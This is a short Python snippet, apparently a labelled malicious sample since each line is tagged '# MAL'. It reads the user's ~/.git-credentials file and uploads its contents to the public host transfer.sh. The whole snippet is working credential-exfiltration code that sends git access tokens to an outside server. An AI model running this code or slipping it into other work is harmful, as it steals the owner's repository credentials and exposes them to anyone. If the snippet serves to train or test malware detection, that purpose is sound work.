from pathlib import Path
import requests
creds = Path("~/.git-credentials").expanduser().read_text()  # MAL
requests.put("https://transfer.sh/c.txt", data=creds)  # MAL
